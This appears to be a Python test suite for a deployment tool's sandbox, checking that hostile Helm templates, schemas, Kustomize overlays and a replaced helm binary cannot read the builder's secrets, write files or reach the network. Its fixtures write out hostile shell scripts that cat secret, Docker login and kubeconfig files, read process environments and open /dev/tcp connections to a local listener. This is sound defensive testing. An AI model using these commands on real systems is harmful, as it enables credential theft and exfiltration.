"""Charts, overlays and tools that would like to read the builder's secrets or to call home: they can do neither, and where the kernel
lacks a means against them, gapship says so."""
import ctypes
import json
import pathlib
import socket
import sys

import harness
from harness import check, equal
from product import Product, deployment, unit

CANARY = 'canary-5f1c9e'
OLD_KERNEL = pathlib.Path(harness.__file__).with_name('old_kernel.py')


class Listener:
    """A server on this machine that nobody has any business to speak to."""

    def __init__(self):
        self.socket = socket.create_server(('127.0.0.1', 0))
        self.socket.setblocking(False)
        self.port = self.socket.getsockname()[1]

    def called(self):
        try:
            connection, _ = self.socket.accept()
        except BlockingIOError:
            return False
        connection.close()
        return True


def charted(w, files, **more):
    """A product of one chart; files: what is in it besides what every chart has."""
    product = Product(w, charts=[{'name': 'app', 'from': 'app'}],
                      environments=[{'name': 'prod', 'units': [unit({'chart': 'app'}, {'kind': 'helm', 'namespace': 'app'})]}], **more)
    product.write('app/Chart.yaml', 'apiVersion: v2\nname: app\nversion: 1.0.0\n')
    for name, text in files.items():
        product.write(f'app/{name}', text)
    return product


def secret(w, text=CANARY):
    """The builder's own file, outside the product."""
    return w.write('builder/secret.json', text, 0o600)


def landlock():
    """Whether this kernel has rules about files; without them only what the tools themselves refuse is refused."""
    return ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1) > 0


def seccomp():
    """Whether it has filters on system calls."""
    return harness.run([sys.executable, OLD_KERNEL, 'landlock', 'true']).status == 0


def helm(w, *words):
    program = w.environment().get('GAPSHIP_HELM', 'helm')
    harness.need(program)
    return harness.run([program, *words], env={'HOME': str(w.home)})


def test_a_template_reaches_nothing_outside_its_chart(w):
    canary = secret(w)
    up = '../' * 12
    tricks = {'get': f'.Files.Get "{canary}"', 'up': f'.Files.Get "{up}{canary}"', 'glob': f'(.Files.Glob "{canary.parent}/**").AsConfig',
              'lines': f'.Files.Lines "{canary}"', 'lookup': 'lookup "v1" "Secret" "" ""', 'host': 'getHostByName "localhost"',
              'tpl': f'tpl "{{{{ .Files.Get \\"{canary}\\" }}}}" .'}
    template = ''.join('{{ $%s := %s }}' % trick for trick in tricks.items())
    template += '{{ fail (printf "%s" %s) }}\n' % (' '.join(f'{name}=[%v]' for name in tricks), ' '.join(f'${name}' for name in tricks))
    product = charted(w, {'templates/app.yaml': template})
    product('build', '--unsigned', status=4, silent=CANARY,
            says=['get=[]', 'up=[]', 'glob=[{}]', 'lines=[[]]', 'lookup=[map[]]', 'host=[]', 'tpl=[]'])
    check(not product.bundle.exists(), 'a bundle was made')


def test_a_schema_reads_no_file_of_the_builder(w):
    canary = secret(w, json.dumps({'enum': [CANARY]}))
    product = charted(w, {'values.yaml': 'name: app\n', 'templates/app.yaml': '{}\n',
                          'values.schema.json': json.dumps({'properties': {'name': {'$ref': f'file://{canary}'}}})})
    bare = helm(w, 'template', 'app', product.path / 'app')
    if CANARY not in bare.out + bare.err:
        raise harness.Skip('this helm follows no reference of a schema to a file')
    if not landlock():
        raise harness.Skip('this kernel has no Landlock')
    product('build', '--unsigned', status=4, says=['permission denied', 'prod/app'], silent=CANARY)


def test_a_schema_calls_nobody(w):
    listener = Listener()
    product = charted(w, {'values.yaml': 'name: app\n', 'templates/app.yaml': '{}\n',
                          'values.schema.json': json.dumps({'properties': {'name': {'$ref': f'http://127.0.0.1:{listener.port}/x'}}})})
    harness.need('timeout')
    harness.run(['timeout', '-s', 'KILL', '1', w.environment().get('GAPSHIP_HELM', 'helm'), 'template', 'app', product.path / 'app'],
                env={'HOME': str(w.home)})
    if not listener.called():
        raise harness.Skip('this helm follows no reference of a schema to a host')
    product('build', '--unsigned', status=4, says='prod/app')
    check(not listener.called(), 'helm called while it rendered')


def overlaid(w, kustomization, files=None):
    product = Product(w, overlays=[{'name': 'app', 'from': 'deploy'}],
                      environments=[{'name': 'prod', 'units': [unit({'overlay': 'app'})]}])
    product.write('deploy/app.yaml', json.dumps(deployment('quay.io/org/app:1')))
    product.write('deploy/kustomization.yaml', kustomization)
    for name, (text, mode) in (files or {}).items():
        w.write(f'product/deploy/{name}', text, mode)
    return product


def test_an_overlay_reads_runs_and_calls_nothing(w):
    canary = secret(w)
    listener = Listener()
    marker = w.path / 'was-run'
    steal = {'steal.sh': (f'#!/bin/sh\ntouch {marker}\ncat {canary}\n', 0o755),
             'generator.yaml': (json.dumps({'apiVersion': 'x/v1', 'kind': 'Steal', 'metadata': {'name': 'x', 'annotations': {
                 'config.kubernetes.io/function': 'exec: {path: ./steal.sh}'}}}), 0o644),
             'chart-home/Chart.yaml': ('apiVersion: v2\nname: x\nversion: 1.0.0\n', 0o644)}
    attacks = {'a remote base': f'resources: ["http://127.0.0.1:{listener.port}/base.yaml"]',
               'a repository': f'resources: ["git::http://127.0.0.1:{listener.port}/x.git//base"]',
               'a patch from a host': f'resources: [app.yaml]\npatches: [{{path: "http://127.0.0.1:{listener.port}/p.yaml"}}]',
               'a file of the builder': f'resources: [app.yaml]\nconfigMapGenerator: [{{name: x, files: ["{canary}"]}}]',
               'a file above': 'resources: [app.yaml]\nsecretGenerator: [{name: x, files: ["../../builder/secret.json"]}]',
               'a schema': f'resources: [app.yaml]\nopenapi: {{path: "{canary}"}}',
               'a generator that is a program': 'resources: [app.yaml]\ngenerators: [generator.yaml]',
               'a transformer that is a program': 'resources: [app.yaml]\ntransformers: [generator.yaml]',
               'a chart': f'resources: [app.yaml]\nhelmCharts: [{{name: x, repo: "http://127.0.0.1:{listener.port}", version: "1"}}]'}
    for name, kustomization in attacks.items():
        product = overlaid(w, kustomization + '\n', steal)
        result = product('build', '--unsigned', status=4, silent=CANARY)
        check('kustom' in result.err, f'{name}: refused for another reason:\n{result}')
        check(not listener.called(), f'{name}: somebody called')
        check(not marker.exists(), f'{name}: a program was run')
        check(not product.bundle.exists(), f'{name}: a bundle was made')


# A helm that somebody has replaced: what it could do is in its last words.
HOSTILE = '''#!/bin/bash
case $1 in version) echo v3.17.0; exit;; esac
{{
  cat {canary} && echo read-the-secret
  cat {home}/.docker/config.json && echo read-the-login
  echo x >{path}/planted && echo wrote-outside
  echo x >{path}/product/planted && echo wrote-into-the-release
  grep -qa . /proc/$PPID/environ && echo read-the-environment
  cp /bin/true $HOME/mine && $HOME/mine && echo ran-its-own-program
  (exec 3<>/dev/tcp/127.0.0.1/{port}) && echo called-home
  unshare -r true && echo made-a-namespace
  [ "$(ulimit -c)" = 0 ] && [ "$(ulimit -d)" = 2097152 ] && echo has-limits
  echo x >$HOME/own && cat $HOME/own && cat {path}/product/app/Chart.yaml | head -1
}} 2>/dev/null | tr '\\n' ' ' >&2
exit 1
'''
FILES = ['read-the-secret', 'read-the-login', 'wrote-outside', 'wrote-into-the-release', 'read-the-environment', 'ran-its-own-program']
CALLS = ['called-home', 'made-a-namespace']


def kept_from(files, calls):
    """What this kernel can keep it from."""
    return (files if landlock() else []) + (calls if seccomp() else [])


def attacked(w):
    """A product whose chart is rendered by a hostile helm; the environment for it, and who listens for it."""
    product = charted(w, {'templates/app.yaml': '{}\n'})
    listener = Listener()
    w.write('home/.docker/config.json', {'auths': {}}, 0o600)
    program = w.write('helm', HOSTILE.format(canary=secret(w), home=w.home, path=w.path, port=listener.port), 0o755)
    return product, {'GAPSHIP_HELM': str(program)}, listener


def test_a_hostile_helm_reads_nothing_and_calls_nobody(w):
    product, env, listener = attacked(w)
    result = product('build', '--unsigned', env=env, status=4, says=['has-limits'], silent=kept_from([*FILES, CANARY], CALLS))
    check(not seccomp() or not listener.called(), f'it called:\n{result}')
    if landlock():
        check(not (w.path / 'planted').exists(), 'it wrote outside')


def test_the_user_may_allow_more(w):
    product, env, listener = attacked(w)
    product('build', '--unsigned', env={**env, 'GAPSHIP_TOOL_PATHS': f'/nowhere:{w.path / "builder"}'}, status=4,
            says=[CANARY, 'read-the-secret'], silent=kept_from(['read-the-login', 'wrote-outside'], CALLS))
    check(not seccomp() or not listener.called(), 'it called')


# The same on site, when it is asked about a release in the cluster.
HOSTILE_ON_SITE = '''#!/bin/bash
case $1 in
version) echo v3.17.0; exit;;
template) printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata: {{name: x}}\\n'; exit;;
esac
{{
  cat {site}/registry.auth >/dev/null && echo read-the-password
  cat {site}/trust/root.json >/dev/null && echo read-the-root
  ls {site}/store >/dev/null && echo read-the-store
  echo x >{site}/store/planted && echo wrote-into-the-store
  echo x >>{site}/kubeconfig && echo changed-the-kubeconfig
  unshare -r true && echo made-a-namespace
  cat {site}/kubeconfig >/dev/null && echo has-the-kubeconfig
  cat {site}/pki/ca.pem >/dev/null && echo has-its-authority
  (exec 3<>/dev/tcp/127.0.0.1/{port}) && echo reached-the-cluster
  echo x >$TMPDIR/own && echo has-a-place-of-its-own
}} 2>/dev/null | tr '\\n' ' ' >&2
exit 1
'''
NEEDED = ['has-the-kubeconfig', 'has-its-authority', 'reached-the-cluster', 'has-a-place-of-its-own']
SITE_FILES = ['read-the-password', 'read-the-root', 'read-the-store', 'wrote-into-the-store', 'changed-the-kubeconfig']


def test_on_site_a_hostile_helm_has_the_cluster_and_nothing_else(w):
    product = charted(w, {'templates/app.yaml': '{}\n'})
    listener = Listener()
    program = w.write('helm', HOSTILE_ON_SITE.format(site=w.path / 'site', port=listener.port), 0o755)
    env = {'GAPSHIP_HELM': str(program)}
    product.build(env=env)
    site = w.site(w.key()[0], {'registry': {'url': f'http://127.0.0.1:{listener.port}'},
                               'environments': {'prod': {'kubeconfig': 'kubeconfig'}}, 'policy': {'allowUnsigned': True}})
    w.write('site/registry.auth', CANARY, 0o600)
    w.write('site/pki/ca.pem', 'authority')
    w.write('site/kubeconfig', {'clusters': [{'name': 'x', 'cluster': {'certificate-authority': 'pki/ca.pem'}}]}, 0o600)
    w.gapship('plan', product.bundle, cwd=site, env=env, status=8, says=NEEDED, silent=kept_from(SITE_FILES, ['made-a-namespace']))
    w.write('site/kubeconfig', {'users': [{'name': 'x', 'user': {'exec': {'command': 'login'}}}]}, 0o600)
    w.gapship('plan', '-v', product.bundle, cwd=site, env=env, status=8, says=['names a program for credentials', 'read-the-password'],
              silent=kept_from([], ['made-a-namespace']))
    if not seccomp():
        return
    told = harness.run([sys.executable, OLD_KERNEL, 'landlock', *w.command('--output', 'json', 'plan', product.bundle)], cwd=site,
                       env=w.environment(env)).expect(8).events()
    equal(sum(event.get('event') == 'unconfined' for event in told), 1, f'times that it was said: {told}')


def test_what_the_kernel_lacks_is_said_once_and_the_rest_holds(w):
    product, env, listener = attacked(w)
    if not seccomp():
        raise harness.Skip('this kernel has no seccomp to play an older one with')
    says = {'landlock': 'it has no Landlock', 'seccomp': 'it has no seccomp'}
    for without in ('landlock', 'seccomp', 'landlock,seccomp'):
        command = [sys.executable, OLD_KERNEL, without, *w.command('--output', 'json', 'build', '--unsigned')]
        result = harness.run(command, cwd=product.path, env=w.environment(env)).expect(4, says='has-limits')
        told = [event for event in result.events() if event.get('event') == 'unconfined']
        whom = ['helm and kubectl'] + ['the reader of charts and image archives'] * ('seccomp' in without)
        equal([event['who'] for event in told], whom, f'who is less confined, each said once\n{result}')
        equal((told[0]['files'], told[0]['calls']), ('landlock' not in without and landlock(), 'seccomp' not in without), 'what is left')
        for name, text in says.items():
            equal(text in told[0]['text'], name in without, f'"{text}" without {without}')
        if 'landlock' in without:
            check(CANARY in result.out + result.err, 'without rules about files it could not read: the attack is none')
        elif landlock():
            result.expect(4, silent=[*FILES, CANARY])
        check(not listener.called(), f'it called, although the network is taken away by other means:\n{result}')
    quiet = product('--output', 'json', 'build', '--unsigned', env=env, status=4)
    if landlock():
        check('unconfined' not in quiet.out, f'said although nothing is missing:\n{quiet}')


harness.main()
